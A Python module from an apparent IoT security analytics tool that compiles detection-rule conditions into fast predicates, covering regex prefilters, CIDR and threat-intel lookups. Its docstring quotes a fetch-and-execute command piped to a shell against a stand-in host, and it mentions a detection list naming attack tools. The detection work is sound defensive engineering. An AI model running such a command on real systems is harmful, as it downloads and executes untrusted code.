"""Conditions compiled once into predicates: ``compile_condition(c, intel)(observation)``.

Each node of the condition tree becomes a small closure, so evaluating a rule is a few
function calls with no parsing, no allocation of intermediate values and no dispatch on the
operator. Semantics (docs/rules.md):

- string operators ignore case (``casefold``) unless the test says ``case: sensitive``;
- ``equals`` and ``in`` compare numbers as numbers when both sides are numbers, or text
  that reads as one (``"22"`` equals ``22``); booleans compare as ``true`` / ``false``;
- a missing field (or one holding a map or list) satisfies nothing but ``exists: false``;
- ``cidr`` reads the value as an IPv4 or IPv6 address (an IPv4-mapped IPv6 address counts as
  its IPv4 address);
- ``intel`` asks the ``IntelLookup``; for ``url`` and ``domain`` it also tries every URL and
  domain found in the text (a command line), so ``curl http://evil.example/x | sh`` matches a
  listed ``evil.example``.

A predicate never raises: a value that cannot be read as what the operator needs is simply
not a match.

>>> from datetime import UTC, datetime
>>> from iotsec.analytics import DeviceContext, Observation
>>> from iotsec.analytics.indicators import NO_INTEL
>>> from iotsec.analytics.rules.model import FieldTest, SourceLocation
>>> test = FieldTest("RemotePort", "in", (22, "2222"), SourceLocation("x", 1, 1))
>>> matches = compile_condition(test, NO_INTEL)
>>> obs = Observation("agent", "ConnectionCreate", datetime(2025, 1, 1, tzinfo=UTC),
...                   DeviceContext("dev-1"), {"RemotePort": "22"}, "e1")
>>> matches(obs)
True
"""

from __future__ import annotations

import ipaddress
import math
import re
from collections.abc import Callable, Iterator, Sequence
from functools import lru_cache

from iotsec.analytics.indicators import IndicatorKind, IntelLookup, IntelMatch
from iotsec.analytics.observation import Observation
from iotsec.analytics.rules.model import (
    AllOf,
    AnyOf,
    Condition,
    EventIs,
    FieldTest,
    Not,
    Scalar,
    SourceIs,
)
from iotsec.analytics.rules.prefilter import factors

__all__ = [
    "Getter",
    "Predicate",
    "compile_condition",
    "field_getter",
    "find_intel",
    "intel_candidates",
]

Predicate = Callable[[Observation], bool]
Getter = Callable[[Observation], object]

_NUMBER = re.compile(r"\s*[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?\s*")
_URL = re.compile(r"(?i)\b(?:https?|ftps?|wss?|tcp|udp)://[^\s'\"<>`|;]+")
_DOMAIN = re.compile(
    r"(?i)(?<![\w.-])(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,61}[a-z0-9](?![\w-])"
)
#: At most this many URLs or domains are looked up per value (a pasted log line is not a list).
MAX_INTEL_CANDIDATES = 16
#: Regexes search at most this many characters of a value: a crafted, huge command line must
#: not stall the stream (Python's ``re`` has no timeout). Agents cut command lines far shorter.
MAX_REGEX_TEXT = 16_384
#: Texts each regex test remembers its answer for. A fleet runs the same command lines over
#: and over (cron jobs, health checks, the same few programs), so most observations are
#: answered by one dictionary lookup; a full memory is emptied and refilled.
MEMO_ENTRIES = 4_096
#: Longer texts are not remembered (bounds the memory a flood of unique lines can pin).
MEMO_TEXT = 1_024
#: ``startswith``/``endswith`` with more targets than this index them by their leading or
#: trailing characters: one dictionary lookup instead of a test per target.
AFFIX_INDEX = 6
# Rough costs for ordering the branches of all/any: cheap tests first, so the expensive ones
# (regex, CIDR, intel) run only on observations the cheap ones let through.
_COST = {
    "exists": 1,
    "equals": 2,
    "in": 2,
    "gte": 2,
    "lte": 2,
    "gt": 2,
    "lt": 2,
    "startswith": 3,
    "endswith": 3,
    "contains": 4,
    "cidr": 6,
    "regex": 8,
    "intel": 10,
}


_CONTEXT: dict[str, Getter] = {
    "Name": lambda o: o.name,
    "DeviceId": lambda o: o.device.device_id,
    "ModuleId": lambda o: o.device.module_id,
    "Group": lambda o: o.device.group,
    "Tags": lambda o: o.device.tags,
    "Source": lambda o: o.source,
}


def field_getter(path: str) -> Getter:
    """A function reading ``path`` from an observation (as ``Observation.get`` does, faster)."""
    head, dot, _rest = path.partition(".")
    if dot:
        return lambda o: o.get(path)
    return _CONTEXT.get(head) or (lambda o: o.fields.get(head))


def _text(value: object) -> str | None:
    """A scalar as text (booleans as true/false); None for maps, lists and None."""
    if isinstance(value, str):
        return value
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return str(value)
    return None


def _number(value: object) -> float | None:
    """A number, or text that reads as one; None otherwise (booleans are not numbers)."""
    if type(value) is str and value.isascii() and value.isdigit():
        number = float(value)  # the common case (ports, ids), without the regex
        return number if math.isfinite(number) else None
    if isinstance(value, bool):
        return None
    try:
        if isinstance(value, (int, float)) or (isinstance(value, str) and _NUMBER.fullmatch(value)):
            number = float(value)
        else:
            return None
    except OverflowError:
        return None
    return number if math.isfinite(number) else None


def compile_condition(  # noqa: PLR0911 - one return per node type
    condition: Condition, intel: IntelLookup
) -> Predicate:
    """``condition`` as a predicate over observations."""
    if isinstance(condition, EventIs):
        names = condition.names
        if len(names) == 1:
            (only,) = names
            return lambda o: o.name == only
        return lambda o: o.name in names
    if isinstance(condition, SourceIs):
        source = condition.source
        return lambda o: o.source == source
    if isinstance(condition, FieldTest):
        return _field_test(condition, intel)
    if isinstance(condition, Not):
        inner = compile_condition(condition.item, intel)
        return lambda o: not inner(o)
    if isinstance(condition, AllOf):
        items = _flat(condition.items, AllOf)
        return _all([compile_condition(c, intel) for c in _cheap_first(items)])
    if isinstance(condition, AnyOf):
        # Regex tests on one field become one predicate: the field is read (and lowered for
        # the prefilters) once for all of them; they run last, being the costliest.
        by_field: dict[str, list[re.Pattern[str]]] = {}
        others: list[Condition] = []
        for item in _flat(condition.items, AnyOf):
            if isinstance(item, FieldTest) and item.pattern is not None:
                by_field.setdefault(item.field, []).append(item.pattern)
            else:
                others.append(item)
        predicates = [compile_condition(c, intel) for c in _cheap_first(tuple(others))]
        predicates.extend(_regexes(path, patterns) for path, patterns in by_field.items())
        return _any(predicates)
    raise TypeError(condition)  # pragma: no cover - the Condition union is closed


def _flat(items: tuple[Condition, ...], kind: type[AllOf | AnyOf]) -> tuple[Condition, ...]:
    """``items`` with nested combinators of the same kind spliced in (``all`` of ``all``)."""
    flat: list[Condition] = []
    for item in items:
        if type(item) is kind:
            flat.extend(_flat(item.items, kind))
        else:
            flat.append(item)
    return tuple(flat)


def _cost(condition: Condition) -> int:
    if isinstance(condition, (EventIs, SourceIs)):
        return 0
    if isinstance(condition, FieldTest):
        return _COST[condition.operator]
    if isinstance(condition, Not):
        return _cost(condition.item)
    return sum(_cost(c) for c in condition.items)


def _cheap_first(items: tuple[Condition, ...]) -> list[Condition]:
    return sorted(items, key=_cost)  # stable: equal costs keep the order written


def _all(predicates: list[Predicate]) -> Predicate:
    if len(predicates) == 1:
        return predicates[0]
    if len(predicates) == 2:
        first, second = predicates
        return lambda o: first(o) and second(o)
    steps = tuple(predicates)

    def every(o: Observation) -> bool:
        for predicate in steps:  # noqa: SIM110 - a loop avoids a generator per call
            if not predicate(o):
                return False
        return True

    return every


def _any(predicates: list[Predicate]) -> Predicate:
    if len(predicates) == 1:
        return predicates[0]
    if len(predicates) == 2:
        first, second = predicates
        return lambda o: first(o) or second(o)
    steps = tuple(predicates)

    def some(o: Observation) -> bool:
        for predicate in steps:  # noqa: SIM110 - a loop avoids a generator per call
            if predicate(o):
                return True
        return False

    return some


def _field_test(  # noqa: PLR0911 - one return per operator
    test: FieldTest, intel: IntelLookup
) -> Predicate:
    get = field_getter(test.field)
    op = test.operator
    if op == "exists":
        if test.values[0]:
            return lambda o: get(o) is not None
        return lambda o: get(o) is None
    if op in ("gte", "lte", "gt", "lt"):
        return _comparison(get, op, float(_only_number(test.values[0])))
    if op == "cidr":
        return _cidr(get, test)
    if op == "intel":
        assert test.intel is not None  # the loader sets it for every intel test
        return _intel(get, test.intel, intel)
    fold: Callable[[str], str] = (lambda s: s) if test.case_sensitive else str.casefold
    if op == "regex":
        assert test.pattern is not None  # the loader compiles every regex test
        return _regexes(test.field, (test.pattern,))
    if op in ("equals", "in"):
        return _equality(get, test.values, fold)
    targets = tuple(fold(str(v)) for v in test.values)
    if op == "contains":
        if len(targets) == 1:
            (needle,) = targets

            def contains_one(o: Observation) -> bool:
                text = _text(get(o))
                return text is not None and needle in fold(text)

            return contains_one

        def contains(o: Observation) -> bool:
            text = _text(get(o))
            if text is None:
                return False
            folded = fold(text)
            return any(t in folded for t in targets)

        return contains
    if op in ("startswith", "endswith"):
        affix = _affix(targets, suffix=op == "endswith")

        def starts_or_ends(o: Observation) -> bool:
            value = get(o)
            text = value if type(value) is str else _text(value)
            return text is not None and affix(fold(text))

        return starts_or_ends
    raise ValueError(f"unknown operator {op!r}")  # pragma: no cover - Operator is closed


def _affix(targets: tuple[str, ...], *, suffix: bool) -> Callable[[str], bool]:
    """A test that a text starts (or ends, ``suffix``) with one of ``targets``.

    Many targets (``endswith: [/nmap, /hydra, ...]``) are indexed by their first (last) ``k``
    characters, ``k`` the length of the shortest: the text's own first (last) ``k`` pick the
    few targets it can have, and only those are compared.
    """
    if "" in targets:
        return lambda text: True  # every text starts and ends with the empty string
    if len(targets) <= AFFIX_INDEX:
        if suffix:
            return lambda text: text.endswith(targets)
        return lambda text: text.startswith(targets)
    k = min(map(len, targets))
    grouped: dict[str, list[str]] = {}
    for target in targets:
        grouped.setdefault(target[-k:] if suffix else target[:k], []).append(target)
    index = {key: tuple(group) for key, group in grouped.items()}
    if suffix:

        def ends(text: str) -> bool:
            found = index.get(text[-k:])
            return found is not None and text.endswith(found)

        return ends

    def starts(text: str) -> bool:
        found = index.get(text[:k])
        return found is not None and text.startswith(found)

    return starts


# The last text lower-cased for a prefilter, and its lower-case form: consecutive regex tests
# of one observation usually read the same string (its command line), so it is lowered once.
# One tuple is replaced at a time, so concurrent engines at worst lower a text again.
_LOWERED: list[tuple[str, str]] = [("", "")]


def _regexes(path: str, patterns: Sequence[re.Pattern[str]]) -> Predicate:
    """True when any of ``patterns`` is found in the value at ``path``.

    Each pattern with literal needles (``iotsec.analytics.rules.prefilter``) runs only when
    one of them is in the lower-cased text; the field is read and lowered once for all, and
    the answer for a text is remembered (``MEMO_ENTRIES``, texts up to ``MEMO_TEXT``).
    """
    get = field_getter(path)
    # A plain payload field is read inline: one call less per test, on the hottest path.
    plain = path if "." not in path and path not in _CONTEXT else ""
    search = _searcher(patterns)
    memo: dict[str, bool] = {}  # the answer depends on the text alone

    def matches(o: Observation) -> bool:
        value = o.fields.get(plain) if plain else get(o)
        text = value if type(value) is str else _text(value)
        if text is None:
            return False
        known = memo.get(text)
        if known is not None:
            return known
        found = search(text)
        if len(text) <= MEMO_TEXT:
            if len(memo) >= MEMO_ENTRIES:
                memo.clear()
            memo[text] = found
        return found

    return matches


def _searcher(patterns: Sequence[re.Pattern[str]]) -> Callable[[str], bool]:
    """True when any of ``patterns`` is found in a text, each behind its prefilter."""
    checks = tuple((tuple(map(tuple, factors(p))), p.search) for p in patterns)

    def search_all(text: str) -> bool:
        if len(text) > MAX_REGEX_TEXT:
            text = text[:MAX_REGEX_TEXT]
        lowered = None
        if text.isascii():
            last = _LOWERED[0]
            if last[0] is text:
                lowered = last[1]
            else:
                lowered = text.lower()
                _LOWERED[0] = (text, lowered)
        for required, search in checks:
            if lowered is not None:
                absent = False
                for factor in required:  # each holds a literal every match contains
                    for needle in factor:
                        if needle in lowered:
                            break
                    else:
                        absent = True
                        break
                if absent:
                    continue  # the text lacks something this pattern needs
            if search(text) is not None:
                return True
        return False

    return search_all


def _only_number(value: Scalar) -> float:
    number = _number(value)
    assert number is not None  # the loader accepts only finite numbers for comparisons
    return number


def _equality(get: Getter, values: tuple[Scalar, ...], fold: Callable[[str], str]) -> Predicate:
    texts = frozenset(fold(t) for t in map(_text, values) if t is not None)
    numbers = frozenset(n for n in map(_number, values) if n is not None)

    def equality(o: Observation) -> bool:
        value = get(o)
        text = value if type(value) is str else _text(value)  # a str is the common case
        if text is None:
            return False
        if fold(text) in texts:
            return True
        if numbers:
            number = _number(value)
            return number is not None and number in numbers
        return False

    return equality


def _comparison(get: Getter, op: str, bound: float) -> Predicate:
    compare: Callable[[float], bool] = {
        "gte": lambda n: n >= bound,
        "lte": lambda n: n <= bound,
        "gt": lambda n: n > bound,
        "lt": lambda n: n < bound,
    }[op]

    def comparison(o: Observation) -> bool:
        number = _number(get(o))
        return number is not None and compare(number)

    return comparison


@lru_cache(maxsize=16384)
def _address(text: str) -> tuple[int, int] | None:
    """(version, integer) of an IP address written as text; IPv4-mapped IPv6 counts as IPv4."""
    candidate = text.strip()
    if candidate.startswith("[") and candidate.endswith("]"):
        candidate = candidate[1:-1]
    try:
        address = ipaddress.ip_address(candidate)
    except ValueError:
        return None
    if isinstance(address, ipaddress.IPv6Address) and address.ipv4_mapped is not None:
        return 4, int(address.ipv4_mapped)
    return address.version, int(address)


def _cidr(get: Getter, test: FieldTest) -> Predicate:
    # Each network as (version, network address, mask): one AND and compare per network.
    networks = tuple(
        (net.version, int(net.network_address), int(net.netmask)) for net in test.networks
    )

    def cidr(o: Observation) -> bool:
        value = get(o)
        if not isinstance(value, str):
            return False
        address = _address(value)
        if address is None:
            return False
        version, number = address
        for net_version, base, mask in networks:
            if net_version == version and number & mask == base:
                return True
        return False

    return cidr


def intel_candidates(kind: IndicatorKind, value: str) -> Iterator[str]:
    """What to look up for ``value``: the value itself, then (for url and domain) the URLs or
    domains found in its text, at most ``MAX_INTEL_CANDIDATES`` in all."""
    whole = value.strip()
    if not whole:
        return
    yield whole
    if kind in ("ip", "hash"):
        return
    count = 1
    seen = {whole}
    found: Iterator[str] = (m.group(0) for m in _URL.finditer(value))
    if kind == "domain":
        found = (m.group(0) for m in _DOMAIN.finditer(value))
    for candidate in found:
        if candidate in seen:
            continue
        if count >= MAX_INTEL_CANDIDATES:
            return
        seen.add(candidate)
        count += 1
        yield candidate


def find_intel(
    get: Getter, kind: IndicatorKind, lookup: IntelLookup, observation: Observation
) -> IntelMatch | None:
    """The first indicator the value (or a URL or domain in it) matches, or None."""
    value = get(observation)
    if not isinstance(value, str):
        return None
    for candidate in intel_candidates(kind, value):
        match = lookup.match(kind, candidate)
        if match is not None:
            return match
    return None


def _intel(get: Getter, kind: IndicatorKind, lookup: IntelLookup) -> Predicate:
    return lambda o: find_intel(get, kind, lookup, o) is not None
